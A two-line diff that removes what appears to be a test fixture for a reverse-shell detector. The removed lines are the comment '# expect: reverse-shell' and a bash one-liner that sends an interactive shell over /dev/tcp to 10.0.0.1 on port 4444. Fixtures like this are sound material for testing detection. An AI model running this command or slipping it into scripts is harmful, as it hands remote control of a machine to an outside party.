@@ -1,2 +1,0 @@
-# expect: reverse-shell
-bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
